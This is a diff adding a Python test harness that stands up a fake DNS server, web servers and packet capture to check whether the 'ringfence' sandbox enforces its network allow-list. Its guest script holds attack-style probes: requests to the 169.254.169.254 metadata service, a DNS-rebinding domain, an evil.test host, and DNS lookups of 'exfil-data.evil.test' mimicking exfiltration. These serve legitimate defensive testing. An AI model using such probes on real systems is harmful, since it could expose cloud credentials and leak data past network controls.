@@ -1,0 +1,118 @@
+"""Runs in a network and mount namespace of its own: a small internet on loopback, with a DNS server and a capture.
+
+93.184.216.34 is public by number, 169.254.169.254 a metadata service; both are addresses of this namespace's loopback.
+Prints what each witness saw, as JSON. Called by test_namespace.py.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import struct
+import subprocess
+import sys
+import threading
+
+PUBLIC, METADATA, DNS = "93.184.216.34", "169.254.169.254", "127.0.0.53"
+
+
+class Witnesses:
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        self.public: list[bytes] = []
+        self.metadata: list[bytes] = []
+        self.packets: list[bytes] = []
+        self.answers: dict[str, list[str]] = {}  # for each time a name is asked for; the last one stays
+
+
+def dns_server(seen: Witnesses) -> None:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((DNS, 53))
+    while True:
+        data, peer = sock.recvfrom(4096)
+        labels, at = [], 12
+        while data[at]:
+            labels.append(data[at + 1 : at + 1 + data[at]].decode("latin-1"))
+            at += data[at] + 1
+        name = ".".join(labels).lower()
+        (kind,) = struct.unpack_from("!H", data, at + 1)
+        record = b""
+        if kind == 1:
+            seen.asked.append(name)
+            known = seen.answers.get(name, [])
+            address = known.pop(0) if len(known) > 1 else (known or [""])[0]
+            if address:
+                record = struct.pack("!3HIH", 0xC00C, 1, 1, 0, 4) + socket.inet_aton(address)
+        code = 0 if name in seen.answers else 3
+        head = data[:2] + struct.pack("!5H", 0x8180 | code, 1, int(bool(record)), 0, 0)
+        sock.sendto(head + data[12 : at + 5] + record, peer)
+
+
+def web_server(address: str, log: list[bytes]) -> None:
+    listener = socket.create_server((address, 80))
+    while True:
+        connection, _ = listener.accept()
+        log.append(connection.recv(4096))
+        connection.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nthere")
+        connection.close()
+
+
+def capture(seen: Witnesses) -> None:
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
+    sock.bind(("lo", 0))
+    while True:
+        seen.packets.append(sock.recv(65536))
+
+
+GUEST = """
+import socket, urllib.request, urllib.error
+def fetch(url):
+    try: print(urllib.request.urlopen(url, timeout=5).read().decode())
+    except urllib.error.HTTPError as error: print(error.code)
+    except OSError as error: print(error.__class__.__name__)
+fetch("http://good.test/")
+fetch("http://rebind.test/")
+fetch("http://rebind.test/")
+fetch("http://meta.test/")
+fetch("http://169.254.169.254/latest/")
+fetch("http://93.184.216.34/")
+fetch("http://evil.test/")
+for name in ("exfil-data.evil.test", "exfil-data.good.test", "good.test.evil.test"):
+    try: socket.getaddrinfo(name, 80); print("resolved")
+    except OSError as error: print(error.__class__.__name__)
+for place in (("169.254.169.254", 80), ("93.184.216.34", 80), ("127.0.0.53", 53), ("10.0.0.1", 80)):
+    try: socket.create_connection(place, timeout=1); print("connected")
+    except OSError as error: print(error.__class__.__name__)
+"""
+
+
+def main() -> None:
+    run = ["ip", "link", "set", "lo", "up"]
+    subprocess.run(run, check=True)
+    for address in (PUBLIC, METADATA):
+        subprocess.run(["ip", "addr", "add", f"{address}/32", "dev", "lo"], check=True)
+    seen = Witnesses()
+    seen.answers = {"good.test": [PUBLIC], "rebind.test": [PUBLIC, "127.0.0.1"], "meta.test": [METADATA]}
+    servers = [(dns_server, (seen,)), (capture, (seen,)), (web_server, (PUBLIC, seen.public))]
+    for target, args in (*servers, (web_server, (METADATA, seen.metadata))):
+        threading.Thread(target=target, args=args, daemon=True).start()  # type: ignore[arg-type]  # each has its own
+
+    from ringfence import Network, Policy, Sandbox
+
+    with Sandbox(policy=Policy(network=Network(allow=["good.test", "rebind.test", "meta.test"]))) as box:
+        result = box.run(GUEST, timeout_s=25)
+    told = {
+        "guest": result.stdout.split("\n"),
+        "errors": result.stderr,
+        "denials": [[denial.target, denial.code, denial.count] for denial in result.denials],
+        "asked": seen.asked,
+        "public": len(seen.public),
+        "metadata": len(seen.metadata),
+        "exfil": sum(b"exfil" in packet for packet in seen.packets),
+        "captured": any(b"\x04good\x04test" in packet for packet in seen.packets),
+    }
+    sys.stdout.write(json.dumps(told))
+
+
+if __name__ == "__main__":
+    main()
